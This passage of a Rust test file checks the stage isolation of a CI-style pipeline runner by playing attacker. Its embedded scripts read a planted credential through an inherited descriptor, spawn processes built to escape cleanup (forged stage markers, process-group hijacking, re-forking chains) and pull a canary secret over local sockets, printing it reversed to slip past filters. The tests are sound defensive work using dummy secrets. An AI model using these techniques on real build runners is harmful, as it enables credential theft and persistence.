//! The ways out of a stage that reviewflow's layers close (docs/isolation.md), each tried as an
//! attacker would: a stage outside a secret's scope, with the best knowledge it can get, looking
//! for the secret, a credential of the runner, or a way to outlive its stage.
//!
//! Each test runs the binary as root and, from root, as an unprivileged user (uid 65534) with a
//! delegated cgroup, as a systemd user session has one. Where a layer cannot hold (no namespace
//! without root where the kernel denies unprivileged user namespaces), the test asserts the
//! honest degradation instead — the run names the missing layer, and `isolation "strict"`
//! refuses — and says which layer it could not test in a line the harness shows. Where the kernel
//! lets uid 65534 make a user namespace and hold capabilities in it, the namespace layers must
//! hold for it too. Synchronisation is on events: lines the run prints, files the test writes.

use std::io::{BufRead as _, BufReader};
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, RecvTimeoutError};
use std::time::{Duration, Instant};

/// The secret a stage in scope holds; no other stage may find it.
const CANARY: &str = "canary-4b9e1f7a2c6d8e0f3a5b7c9d1e2f4a6b";
/// What the runner's HOME holds (as `~/.docker/config.json` does on a runner).
const CREDENTIAL: &str = "runner-credential-0c7e5a93f1d24b86";
/// The unprivileged user the tests run as, from root.
const NOBODY: u32 = 65534;
/// How long any one event may take to come on a loaded machine.
const PATIENCE: Duration = Duration::from_secs(60);

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum User {
    Root,
    Unprivileged,
}

fn is_root() -> bool {
    rustix::process::geteuid().is_root()
}

/// One attack: a checkout with a `.git` holding a token (as `actions/checkout` leaves it), a
/// HOME with a credential, a temp folder for the run, and the scripts of the attacker.
struct Case {
    dir: tempfile::TempDir,
    user: User,
    /// A cgroup delegated to the unprivileged user, removed on drop.
    delegated: Option<PathBuf>,
}

impl Case {
    fn new(user: User) -> Self {
        let dir = tempfile::tempdir().expect("tempdir");
        let p = dir.path();
        for d in [
            "checkout/scripts",
            "checkout/.git/hooks",
            "home/.docker",
            "tmp",
            "sync",
        ] {
            std::fs::create_dir_all(p.join(d)).expect("mkdir");
        }
        std::fs::write(
            p.join("checkout/.git/config"),
            format!(
                "[http \"https://github.com/\"]\n\textraheader = AUTHORIZATION: basic {}\n",
                b64(&format!("x-access-token:ghs_{CREDENTIAL}"))
            ),
        )
        .expect("git config");
        std::fs::write(p.join("checkout/README.md"), "hello\n").expect("readme");
        let cred = p.join("home/.docker/config.json");
        std::fs::write(&cred, CREDENTIAL).expect("credential");
        std::fs::set_permissions(&cred, std::fs::Permissions::from_mode(0o600)).expect("chmod");
        let mut case = Self {
            dir,
            user,
            delegated: None,
        };
        if user == User::Unprivileged {
            let status = Command::new("chown")
                .args(["-R", &format!("{NOBODY}:{NOBODY}")])
                .arg(case.dir.path())
                .status()
                .expect("chown");
            assert!(status.success());
            std::fs::set_permissions(case.dir.path(), std::fs::Permissions::from_mode(0o755))
                .expect("chmod");
            case.delegated = delegate_cgroup();
        }
        case
    }

    /// The same, for uid 65534 without a delegated cgroup: the `cgroup` layer is missing.
    fn without_cgroup() -> Self {
        let mut case = Self::new(User::Unprivileged);
        if let Some(d) = case.delegated.take() {
            remove_cgroup(&d);
        }
        case
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn script(&self, name: &str, text: &str) {
        std::fs::write(self.path("checkout/scripts").join(name), text).expect("script");
    }

    /// The binary, as the case's user, on `pipeline`, with `CANARY` set.
    fn command(&self, pipeline: &str) -> Command {
        // An `allow` in a case names the findings it hides by id (principle 6).
        let pipeline = if pipeline.contains("allow \"") {
            crate::support::with_allow_ids(pipeline)
        } else {
            pipeline.to_owned()
        };
        std::fs::write(self.path("review.kdl"), pipeline).expect("pipeline");
        let bin = binary();
        let mut args: Vec<String> = vec![
            bin.display().to_string(),
            "run".into(),
            self.path("review.kdl").display().to_string(),
            "--checkout".into(),
            self.path("checkout").display().to_string(),
            "--grace".into(),
            "300ms".into(),
            // Cases whose stages meet (a server and its client) need two at once, however few
            // cores the machine has (the default is one slot a core).
            "--jobs".into(),
            "2".into(),
        ];
        let mut c = match self.user {
            User::Root => {
                let mut c = Command::new(args.remove(0));
                c.args(args);
                c
            }
            User::Unprivileged => {
                // A shell that moves itself into the delegated cgroup (as root), then drops to
                // the user for good.
                let mut c = Command::new("sh");
                let join = match &self.delegated {
                    Some(d) => format!("echo $$ > '{}/cgroup.procs'; ", d.display()),
                    None => String::new(),
                };
                c.arg("-c")
                    .arg(format!(
                        "{join}exec setpriv --reuid={NOBODY} --regid={NOBODY} --clear-groups --inh-caps=-all \"$@\""
                    ))
                    .arg("sh")
                    .args(args);
                c
            }
        };
        c.current_dir(self.path("checkout"))
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("NO_COLOR", "1")
            .env("HOME", self.path("home"))
            .env("TMPDIR", self.path("tmp"))
            .env("CANARY", CANARY)
            .env("SYNC", self.path("sync"))
            .stdin(Stdio::null());
        c
    }

    /// Starts the run with its output read line by line as it comes.
    fn start(&self, pipeline: &str) -> Live {
        let mut child = self
            .command(pipeline)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .process_group(0)
            .spawn()
            .expect("the binary starts");
        let (tx, rx) = std::sync::mpsc::channel();
        for stream in [
            Box::new(child.stdout.take().expect("stdout")) as Box<dyn std::io::Read + Send>,
            Box::new(child.stderr.take().expect("stderr")),
        ] {
            let tx = tx.clone();
            std::thread::spawn(move || {
                for line in BufReader::new(stream).lines().map_while(Result::ok) {
                    if tx.send(line).is_err() {
                        break;
                    }
                }
            });
        }
        Live {
            child,
            lines: rx,
            seen: Vec::new(),
        }
    }

    /// Writes `name` in the folder the stages wait on (readable by every stage: the checkout's
    /// `sync` link is not used; the path comes through `$SYNC`, a pipeline input).
    fn signal(&self, name: &str, text: &str) {
        let tmp = self.path("sync").join(format!(".{name}.tmp"));
        std::fs::write(&tmp, text).expect("signal");
        std::fs::rename(&tmp, self.path("sync").join(name)).expect("signal");
    }
}

impl Drop for Case {
    fn drop(&mut self) {
        if let Some(d) = &self.delegated {
            remove_cgroup(d);
        }
    }
}

/// Removes a cgroup and those beneath it, the deepest first, once the processes killed in it
/// have left it: a run killed with its watchdog leaves its tree behind (its processes die of
/// their parent-death signal, a moment later). Whether they had left it within the patience.
fn remove_cgroup(dir: &Path) -> bool {
    let deadline = Instant::now() + PATIENCE;
    let populated = || {
        std::fs::read_to_string(dir.join("cgroup.events"))
            .is_ok_and(|t| t.lines().any(|l| l == "populated 1"))
    };
    while populated() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    let emptied = !populated();
    for sub in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        if sub.file_type().is_ok_and(|t| t.is_dir()) {
            remove_cgroup(&sub.path());
        }
    }
    let _ = std::fs::remove_dir(dir);
    emptied
}

/// This test's own cgroup in the cgroup v2 hierarchy, where reviewflow makes its tree.
fn own_cgroup() -> Option<PathBuf> {
    let own = std::fs::read_to_string("/proc/self/cgroup").ok()?;
    let own = own.lines().find_map(|l| l.strip_prefix("0::"))?.to_string();
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").ok()?;
    let point = mountinfo.lines().find_map(|l| {
        let (left, right) = l.split_once(" - ")?;
        (right.split_whitespace().next()? == "cgroup2").then(|| left.split_whitespace().nth(4))?
    })?;
    Some(Path::new(point).join(own.trim_start_matches('/')))
}

/// A cgroup owned by the unprivileged user (as systemd delegates one to a user session), in the
/// cgroup v2 hierarchy the test runs in; `None` where there is none to delegate from.
fn delegate_cgroup() -> Option<PathBuf> {
    static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    let dir = own_cgroup()?.join(format!(
        "reviewflow-test-delegated-{}-{}",
        std::process::id(),
        NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
    ));
    std::fs::create_dir(&dir).ok()?;
    for f in [
        "",
        "cgroup.procs",
        "cgroup.subtree_control",
        "cgroup.threads",
    ] {
        let p = dir.join(f);
        rustix::fs::chown(
            &p,
            Some(rustix::fs::Uid::from_raw(NOBODY)),
            Some(rustix::fs::Gid::from_raw(NOBODY)),
        )
        .ok()?;
    }
    Some(dir)
}

/// A run going on, its lines as they come.
struct Live {
    child: Child,
    lines: Receiver<String>,
    seen: Vec<String>,
}

impl Live {
    /// Waits for a line containing `text`; panics with what was seen after [`PATIENCE`].
    fn wait_for(&mut self, text: &str) -> String {
        let deadline = Instant::now() + PATIENCE;
        loop {
            if let Some(line) = self.seen.iter().find(|l| l.contains(text)) {
                return line.clone();
            }
            let left = deadline.saturating_duration_since(Instant::now());
            match self.lines.recv_timeout(left) {
                Ok(line) => self.seen.push(line),
                Err(RecvTimeoutError::Timeout) => {
                    let _ = self.child.kill();
                    panic!("`{text}` never came:\n{}", self.seen.join("\n"))
                }
                Err(RecvTimeoutError::Disconnected) => {
                    panic!("the run ended before `{text}`:\n{}", self.seen.join("\n"))
                }
            }
        }
    }

    /// Waits for the run's end: its exit code and every line it printed.
    fn finish(mut self) -> (i32, String) {
        let status = self.child.wait().expect("wait");
        while let Ok(line) = self.lines.recv_timeout(Duration::from_secs(5)) {
            self.seen.push(line);
        }
        (status.code().unwrap_or(-1), self.seen.join("\n"))
    }
}

fn b64(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(text)
}

/// The canary's and the credential's forms an attacker could print.
fn forbidden_forms() -> Vec<String> {
    let reversed: String = CANARY.chars().rev().collect();
    vec![
        CANARY.into(),
        b64(CANARY),
        reversed,
        CREDENTIAL.into(),
        b64(CREDENTIAL),
    ]
}

fn assert_nothing_leaked(log: &str) {
    for form in forbidden_forms() {
        assert!(!log.contains(&form), "`{form}` reached the output:\n{log}");
    }
}

/// The layers the run's manifest records as held.
fn held_layers(case: &Case) -> Vec<String> {
    let runs = case.path("checkout/.reviewflow/runs");
    let Some(manifest) = crate::support::files_under(&runs)
        .into_iter()
        .find(|p| p.ends_with("manifest.json"))
    else {
        return Vec::new();
    };
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(manifest).expect("read")).expect("json");
    json["isolation"]["layers"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|l| l["held"] == true)
        .filter_map(|l| l["name"].as_str().map(str::to_string))
        .collect()
}

/// When `layer` did not hold: the run must have named it, and a strict pipeline must refuse;
/// the line says which layer this test could not try. Returns whether it held.
fn layer_held_or_said(case: &Case, layer: &str, log: &str, pipeline: &str) -> bool {
    if held_layers(case).iter().any(|l| l == layer) {
        return true;
    }
    let ci = std::env::var("CI").is_ok_and(|v| v == "true");
    let must_hold = (ci && case.user == User::Root)
        || (case.user == User::Unprivileged
            && NAMESPACE_LAYERS.contains(&layer)
            && unprivileged_user_namespaces());
    assert!(
        !must_hold,
        "{:?}: {layer} must hold here (CI runs as root with every layer; the kernel lets uid {NOBODY} make a user namespace)\n{log}",
        case.user
    );
    crate::support::not_tried(&format!(
        "layer {layer} ({:?}): not held here, the attack it stops was not tried; checking the run says so",
        case.user
    ));
    assert!(
        log.contains(&format!("isolation: {layer} is not held")),
        "the missing layer is named:\n{log}"
    );
    let strict = format!("isolation \"strict\"\n{pipeline}");
    let out = case.command(&strict).output().expect("runs");
    assert_eq!(out.status.code(), Some(2), "strict refuses without {layer}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(layer)
            || String::from_utf8_lossy(&out.stdout).contains(layer),
        "the refusal names {layer}"
    );
    false
}

/// The layers reviewflow makes in a user namespace of its own when it does not run as root.
const NAMESPACE_LAYERS: [&str; 4] = [
    "network-namespace",
    "ipc-namespace",
    "mount-namespace",
    "pid-namespace",
];

/// Whether the kernel lets uid 65534 make a user namespace and hold, inside it, the
/// capabilities a network and a mount namespace need (Ubuntu 24.04's AppArmor lets it make one
/// and denies them). Tried once, as that user, with util-linux's `unshare`.
fn unprivileged_user_namespaces() -> bool {
    static PROBE: std::sync::OnceLock<bool> = std::sync::OnceLock::new();
    *PROBE.get_or_init(|| {
        let ok = is_root()
            && Command::new("setpriv")
                .args([
                    &format!("--reuid={NOBODY}"),
                    &format!("--regid={NOBODY}"),
                    "--clear-groups",
                    "unshare",
                    "-U",
                    "-r",
                    "-n",
                    "-m",
                    "true",
                ])
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()
                .is_ok_and(|s| s.success());
        if !ok {
            crate::support::not_tried(&format!(
                "network-namespace, mount-namespace (uid {NOBODY}): this kernel does not let an unprivileged user hold capabilities in a user namespace"
            ));
        }
        ok
    })
}

/// Processes anywhere whose command line holds `mark`.
fn alive_with(mark: &str) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        if let Ok(cmdline) = std::fs::read(e.path().join("cmdline")) {
            let text = String::from_utf8_lossy(&cmdline).replace('\0', " ");
            if text.contains(mark) {
                out.push(format!("{}: {text}", e.file_name().to_string_lossy()));
            }
        }
    }
    out
}

/// Whether uid 65534 can run `bin`: every folder above it searchable by others, and the file
/// executable by them (a clone under a 0700 home, or in a `mktemp -d` folder, is not).
fn others_can_run(bin: &Path) -> bool {
    let others_x =
        |p: &Path| std::fs::metadata(p).is_ok_and(|m| m.permissions().mode() & 0o001 != 0);
    others_x(bin) && bin.ancestors().skip(1).all(others_x)
}

/// The binary both users run. When the built one lies in a folder others cannot search, root
/// links it into a folder of the system's temporary folder they can (the same file: a hard link,
/// else a copy), so that the unprivileged half of every case is tried wherever the clone is.
fn binary() -> PathBuf {
    static BINARY: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
    BINARY
        .get_or_init(|| {
            let built = PathBuf::from(env!("CARGO_BIN_EXE_reviewflow"));
            if others_can_run(&built) || !is_root() {
                return built;
            }
            // One folder per built binary, its link replaced on each test run: nothing piles up.
            let tag = {
                use std::hash::{Hash as _, Hasher as _};
                let mut h = std::collections::hash_map::DefaultHasher::new();
                built.hash(&mut h);
                h.finish()
            };
            let name = format!("reviewflow-ways-out-{tag:016x}");
            // A link keeps its binary's file alive after the clone is gone: links of other
            // clones left for more than an hour (each test run renews its own) are removed.
            for old in std::fs::read_dir(std::env::temp_dir())
                .into_iter()
                .flatten()
                .flatten()
            {
                let stale =
                    old.file_name()
                        .to_string_lossy()
                        .starts_with("reviewflow-ways-out-")
                        && old.file_name().to_string_lossy() != name.as_str()
                        && old.metadata().and_then(|m| m.modified()).is_ok_and(|t| {
                            t.elapsed().is_ok_and(|e| e > Duration::from_secs(3600))
                        });
                if stale {
                    let _ = std::fs::remove_dir_all(old.path());
                }
            }
            let dir = std::env::temp_dir().join(name);
            std::fs::create_dir_all(&dir).expect("a folder for the binary");
            std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))
                .expect("chmod the folder");
            let link = dir.join("reviewflow");
            let staged = dir.join(format!(".reviewflow-{}", std::process::id()));
            let _ = std::fs::remove_file(&staged);
            if std::fs::hard_link(&built, &staged).is_err() {
                std::fs::copy(&built, &staged).expect("copy the binary");
            }
            std::fs::set_permissions(&staged, std::fs::Permissions::from_mode(0o755))
                .expect("chmod the binary");
            std::fs::rename(&staged, &link).expect("place the binary");
            link
        })
        .clone()
}

fn users() -> Vec<User> {
    if is_root() && !others_can_run(&binary()) {
        crate::support::not_tried(&format!(
            "uid {NOBODY} cannot reach {} (a folder above it is not searchable by others): tried as root only",
            binary().display()
        ));
        vec![User::Root]
    } else if is_root() {
        vec![User::Root, User::Unprivileged]
    } else {
        crate::support::not_tried(&format!(
            "the tests run as root and as uid {NOBODY}; not root here: only as this user"
        ));
        vec![User::Root]
    }
}

/// A stage that leaves a file in its work folder and waits; `fs <type>` names what the folder is.
const LEFT_IN_FOLDER_PIPELINE: &str = r#"
pipeline "left-in-folder"
input "sync" env="SYNC"
stage "a" uses="run" {
    command "sh" "-c" "echo left-behind > \"$TMPDIR/marker\"; stat -f -c \"fs %T\" \"$TMPDIR\"; echo ready; while [ ! -e {sync}/a-go ]; do sleep 0.01; done"
}
"#;

/// `pid` and every process below it.
fn descendants(pid: u32) -> Vec<u32> {
    let mut all = vec![pid];
    let mut at = 0;
    while let Some(&p) = all.get(at) {
        at += 1;
        all.extend(crate::support::children_of(p));
    }
    all
}

/// As root, the stages' work folders are a tmpfs in the run's own mount namespace
/// (docs/isolation.md, "Work folders"): what a stage writes there is on no disk, no process
/// outside the run sees it while the run goes on, and a run killed with SIGKILL leaves none of
/// it. Without root the folders are on disk, 0700, as they always were.
#[test]
fn what_a_stage_leaves_in_its_folder_is_in_memory_and_goes_with_the_run() {
    for user in users() {
        for kill in [false, true] {
            let case = Case::new(user);
            let mut live = case.start(LEFT_IN_FOLDER_PIPELINE);
            let fs = live.wait_for("fs ");
            live.wait_for("ready");
            let seen_outside = crate::support::files_under(&case.path("tmp"));
            // The processes the test started (a shell, the watchdog, reviewflow): the killed
            // run's tree is named after one of them.
            let engine = descendants(live.child.id());
            if kill {
                // The whole process group: reviewflow and its watchdog, no chance to clean.
                let group = rustix::process::Pid::from_raw(live.child.id() as i32).expect("pid");
                rustix::process::kill_process_group(group, rustix::process::Signal::KILL)
                    .expect("kill");
            } else {
                case.signal("a-go", "");
            }
            let (code, log) = live.finish();
            if kill {
                // Nothing was left to end the killed run's cgroup tree (in the delegated
                // cgroup, the case's drop removes it).
                // Its stage's child, told by its parent-death signal, is gone with it.
                if let Some(own) = own_cgroup() {
                    for pid in &engine {
                        let tree = own.join(format!("reviewflow-{pid}"));
                        assert!(remove_cgroup(&tree), "{user:?}: left in {}", tree.display());
                    }
                }
            }
            if user == User::Unprivileged {
                assert!(!fs.ends_with("fs tmpfs"), "{user:?}: {log}");
                assert!(
                    seen_outside.iter().any(|p| p.ends_with("marker")),
                    "{user:?}: on disk, the folder is seen: {seen_outside:?}"
                );
                continue;
            }
            assert!(fs.ends_with("fs tmpfs"), "{log}");
            assert!(
                seen_outside.is_empty(),
                "seen from outside the run: {seen_outside:?}"
            );
            if kill {
                assert_eq!(code, -1, "killed: {log}");
            } else {
                assert_eq!(code, 0, "{log}");
                let left: Vec<_> = std::fs::read_dir(case.path("tmp"))
                    .expect("tmp")
                    .flatten()
                    .map(|e| e.file_name())
                    .collect();
                assert!(left.is_empty(), "the work root is removed: {left:?}");
            }
            assert!(
                crate::support::files_under(&case.path("tmp")).is_empty(),
                "{log}"
            );
        }
    }
}

const EXEC_IN_FOLDER_PIPELINE: &str = r#"
pipeline "exec-in-folder"
stage "a" uses="run" {
    command "sh" "-c" "printf '#!/bin/sh\\necho ran-from-the-folder\\n' > \"$TMPDIR/x\"; chmod +x \"$TMPDIR/x\"; \"$TMPDIR/x\" || echo refused-in-the-folder"
}
"#;

/// The tmpfs of the work folders allows no more than the temp folder it is mounted in: where
/// that is `noexec`, a program a stage wrote in its folder does not run; elsewhere it does.
#[test]
fn a_stage_runs_what_it_wrote_only_where_the_temp_folder_allows_it() {
    if !is_root() {
        crate::support::not_tried("mounting a noexec temp folder needs root");
        return;
    }
    /// Unmounted however the test ends, before the case's folder is removed.
    struct Mounted(PathBuf);
    impl Drop for Mounted {
        fn drop(&mut self) {
            let _ = Command::new("umount").arg(&self.0).status();
        }
    }
    for noexec in [false, true] {
        let case = Case::new(User::Root);
        let tmp = case.path("tmp");
        let _mounted = noexec.then(|| {
            let status = Command::new("mount")
                .args(["-t", "tmpfs", "-o", "noexec,mode=0755", "none"])
                .arg(&tmp)
                .status()
                .expect("mount");
            assert!(status.success(), "mount a noexec temp folder");
            Mounted(tmp.clone())
        });
        let (code, log) = case.start(EXEC_IN_FOLDER_PIPELINE).finish();
        assert_eq!(code, 0, "{log}");
        if noexec {
            assert!(log.contains("refused-in-the-folder"), "{log}");
            assert!(!log.contains("ran-from-the-folder"), "{log}");
        } else {
            assert!(log.contains("ran-from-the-folder"), "{log}");
        }
    }
}

const GROUPS_PIPELINE: &str = r#"
pipeline "groups"
input "sync" env="SYNC"
stage "a" uses="run" {
    command "sh" "-c" "stat -c 'a folder %a %u %g' \"$TMPDIR\"; echo \"a groups $(id -u) $(id -G)\"; ls \"$TMPDIR/..\" || echo a root-unlisted; echo secret > \"$TMPDIR/kept\"; echo \"$TMPDIR\" > {sync}/a-path; while [ ! -e {sync}/a-go ]; do sleep 0.01; done"
}
stage "b" uses="run" {
    command "sh" "-c" "while [ ! -s {sync}/a-path ]; do sleep 0.01; done; a=$(cat {sync}/a-path); stat -c 'b folder %a %u %g' \"$TMPDIR\"; echo \"b groups $(id -u) $(id -G)\"; cat \"$a/kept\" || echo b other-unread; ls \"$a\" || echo b other-unlisted; chmod 777 \"$a\" || echo b other-chmod-refused; touch \"$a/planted\" || echo b other-unwritten; : > {sync}/a-go"
}
"#;

/// As root with the work folders in memory, the run's children share one view, and each
/// stage's folder is open to its own group only (docs/executor.md, "Its view of the file
/// system"): owned by uid 2113929216, a group of the stage's own, mode 0070; the children run
/// as uid 0 with only their stage's group; another stage's folder, its path known, is neither
/// read, listed, changed nor written, and the work root is not listed.
#[test]
fn the_stages_folders_are_told_apart_by_group() {
    if !is_root() {
        crate::support::not_tried("the stages are told apart by group as root only");
        return;
    }
    let case = Case::new(User::Root);
    let (code, log) = case.start(GROUPS_PIPELINE).finish();
    assert_eq!(code, 0, "{log}");
    let said = |prefix: &str| {
        log.lines()
            .find_map(|l| {
                l.split_once(prefix)
                    .map(|(_, rest)| rest.trim().to_string())
            })
            .unwrap_or_else(|| panic!("no `{prefix}`: {log}"))
    };
    let (a, b) = (said("a folder "), said("b folder "));
    let (a_groups, b_groups) = (said("a groups "), said("b groups "));
    let group = |folder: &str| folder.rsplit(' ').next().unwrap_or_default().to_string();
    assert!(a.starts_with("70 2113929216 "), "{log}");
    assert!(b.starts_with("70 2113929216 "), "{log}");
    assert_ne!(group(&a), group(&b), "{log}");
    assert_eq!(a_groups, format!("0 {}", group(&a)), "{log}");
    assert_eq!(b_groups, format!("0 {}", group(&b)), "{log}");
    for refused in [
        "a root-unlisted",
        "b other-unread",
        "b other-unlisted",
        "b other-chmod-refused",
        "b other-unwritten",
    ] {
        assert!(log.contains(refused), "{refused}: {log}");
    }
    assert!(!log.contains("│ secret"), "{log}");
}

// ---------------------------------------------------------------------------------------------
// 3. Inherited descriptors.

const FD_PIPELINE: &str = r#"
pipeline "fd"
stage "spy" uses="run" {
    command "sh" "-c" "cat <&9 2>&1; cat /proc/self/fd/9 2>&1; ls -l /proc/self/fd/ 2>&1; echo spy done"
}
"#;

#[test]
fn a_descriptor_the_caller_left_open_reaches_no_stage() {
    for user in users() {
        let case = Case::new(user);
        let mut cmd = case.command(FD_PIPELINE);
        let cred = std::fs::File::open(case.path("home/.docker/config.json")).expect("open");
        let fd = std::os::fd::AsRawFd::as_raw_fd(&cred);
        // SAFETY: dup2 in the child before exec; `fd` stays open in this process meanwhile.
        unsafe {
            std::os::unix::process::CommandExt::pre_exec(&mut cmd, move || {
                if libc::dup2(fd, 9) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let out = cmd.output().expect("runs");
        let log = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(log.contains("spy done"), "{user:?}: {log}");
        assert_nothing_leaked(&log);
        assert!(log.contains("Bad file descriptor"), "{user:?}: {log}");
    }
}

// ---------------------------------------------------------------------------------------------
// 2. Leftovers.

/// Leaves three processes that every earlier sweep spared or missed: one in reviewflow's own
/// process group with an empty environment, one with a forged marker of the run, and a chain
/// that re-forks. Each carries MARK in its command line; it says `leftovers ready` once all
/// three are in place.
const LEFTOVERS: &str = r#"
import os, sys, time
mark = sys.argv[1]
sync = os.environ["SYNC"]
path = os.path.join(sync, "pgid")
while not os.path.exists(path):
    time.sleep(0.01)
pgid = int(open(path).read())
marker = os.environ.get("REVIEWFLOW_STAGE_ID", "")
forged = marker.rsplit(".", 1)[0] + ".forged"
r, w = os.pipe()
def leave(env, join_group, chain):
    if os.fork() == 0:
        os.setsid() if not join_group else None
        if join_group:
            try:
                os.setpgid(0, pgid)
            except OSError as e:
                print("setpgid refused:", e, flush=True)
        os.write(w, b"x")
        if chain:
            while True:
                time.sleep(0.02)
                if os.fork() != 0:
                    os._exit(0)
        os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", mark], env)
    return
leave({}, True, False)
leave({"REVIEWFLOW_STAGE_ID": forged}, False, False)
leave({}, False, True)
for _ in range(3):
    os.read(r, 1)
print("leftovers ready", flush=True)
"#;

const LEFTOVERS_PIPELINE: &str = r#"
pipeline "leftovers"
input "sync" env="SYNC"
stage "a" uses="run" {
    command "python3" "scripts/leftovers.py" "MARK"
    env "SYNC" "{sync}"
}
stage "b" uses="run" {
    command "sh" "-c" "echo b started; while [ ! -e {sync}/b-go ]; do sleep 0.01; done; echo b done"
    needs "a"
}
"#;

#[test]
fn nothing_a_stage_starts_outlives_it() {
    for user in users() {
        leftovers_end_with_their_stage(Case::new(user), "cgroup");
    }
}

/// Without the `cgroup` layer (uid 65534 without a delegated cgroup), each stage's PID
/// namespace is what ends its leftovers.
#[test]
fn nothing_a_stage_starts_outlives_it_without_a_cgroup() {
    if !users().contains(&User::Unprivileged) {
        return;
    }
    let case = Case::without_cgroup();
    assert!(case.delegated.is_none());
    leftovers_end_with_their_stage(case, "pid-namespace");
}

/// Runs [`LEFTOVERS`] as `case`'s user: nothing of stage `a` is alive once it has ended, when
/// `layer` holds.
fn leftovers_end_with_their_stage(case: Case, layer: &str) {
    let user = case.user;
    {
        let mark = format!(
            "reviewflow-leftover-{}-{user:?}-{layer}",
            std::process::id()
        );
        case.script("leftovers.py", LEFTOVERS);
        let pipeline = LEFTOVERS_PIPELINE.replace("MARK", &mark);
        let mut live = case.start(&pipeline);
        case.signal("pgid", &live.child.id().to_string());
        live.wait_for("leftovers ready");
        live.wait_for("b started");
        // Stage `a` has ended: nothing of it may be alive while `b` runs.
        let during = alive_with(&mark);
        case.signal("b-go", "");
        let (code, log) = live.finish();
        assert_eq!(code, 0, "{user:?}: {log}");
        let after = alive_with(&mark);
        // Clean up whatever escaped, so that a failure does not leave it running.
        for p in during.iter().chain(&after) {
            if let Some(pid) = p.split(':').next().and_then(|p| p.parse::<i32>().ok()) {
                let _ = rustix::process::kill_process(
                    rustix::process::Pid::from_raw(pid).expect("pid"),
                    rustix::process::Signal::KILL,
                );
            }
        }
        if !layer_held_or_said(&case, layer, &log, &pipeline) {
            return;
        }
        assert!(
            during.is_empty(),
            "{user:?}: alive after its stage ended: {during:#?}\n{log}"
        );
        assert!(
            after.is_empty(),
            "{user:?}: alive after the run: {after:#?}\n{log}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// 4. Local sockets and UDP.

/// In scope: serves the canary on a unix socket in its folder and over UDP on loopback, says
/// where, and waits for the test's word to end.
const SERVER: &str = r#"
import os, socket, sys, threading
secret = os.environ["CANARY"].encode()
path = os.path.join(os.environ["TMPDIR"], "agent.sock")
u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
u.bind(path); u.listen(8)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
d.bind(("127.0.0.1", 0))
def unix():
    while True:
        c, _ = u.accept(); c.sendall(secret); c.close()
def udp():
    while True:
        _, peer = d.recvfrom(64); d.sendto(secret, peer)
threading.Thread(target=unix, daemon=True).start()
threading.Thread(target=udp, daemon=True).start()
print("serving", path, d.getsockname()[1], flush=True)
go = os.path.join(os.environ["SYNC"], "server-go")
import time
while not os.path.exists(go):
    time.sleep(0.01)
"#;

/// Out of scope: learns the socket's path from `/proc/self/net/unix` (and from the test, as the
/// best-informed attacker), tries it and the UDP port.
const CLIENT: &str = r#"
import os, socket, sys, time
sync = os.environ["SYNC"]
where = os.path.join(sync, "client-go")
while not os.path.exists(where):
    time.sleep(0.01)
path, port = open(where).read().split()
try:
    listed = open("/proc/self/net/unix").read()
    print("net/unix lists the socket" if path in listed else "net/unix does not list it", flush=True)
except OSError as e:
    print("net/unix:", e, flush=True)
try:
    c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); c.settimeout(5); c.connect(path)
    print("unix got", c.recv(64).decode(errors="replace")[::-1], flush=True)
except OSError as e:
    print("unix refused:", e, flush=True)
try:
    d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.settimeout(2)
    d.sendto(b"?", ("127.0.0.1", int(port)))
    print("udp got", d.recv(64).decode(errors="replace")[::-1], flush=True)
except OSError as e:
    print("udp refused:", e, flush=True)
print("client done", flush=True)
"#;

const SOCKETS_PIPELINE: &str = r#"
pipeline "sockets"
input "sync" env="SYNC"
secret "canary" env="CANARY" {
    visible-to "server"
}
stage "server" uses="run" {
    command "python3" "scripts/server.py"
    secret-env "CANARY" "canary"
    env "SYNC" "{sync}"
    allow "untrusted-input" reason="the test's folder of signals, shared on purpose"
}
stage "client" uses="run" {
    command "python3" "scripts/client.py"
    env "SYNC" "{sync}"
}
"#;

#[test]
fn a_stage_reaches_no_socket_of_another() {
    for user in users() {
        let case = Case::new(user);
        case.script("server.py", SERVER);
        case.script("client.py", CLIENT);
        let mut live = case.start(SOCKETS_PIPELINE);
        let serving = live.wait_for("serving ");
        let mut words = serving.rsplit(' ');
        let port = words.next().expect("port").to_string();
        let path = words.next().expect("path").to_string();
        case.signal("client-go", &format!("{path} {port}"));
        live.wait_for("client done");
        case.signal("server-go", "");
        let (code, log) = live.finish();
        assert_eq!(code, 0, "{user:?}: {log}");
        if !layer_held_or_said(&case, "network-namespace", &log, SOCKETS_PIPELINE)
            || !layer_held_or_said(&case, "mount-namespace", &log, SOCKETS_PIPELINE)
        {
            continue;
        }
        assert_nothing_leaked(&log);
        assert!(log.contains("unix refused:"), "{user:?}: {log}");
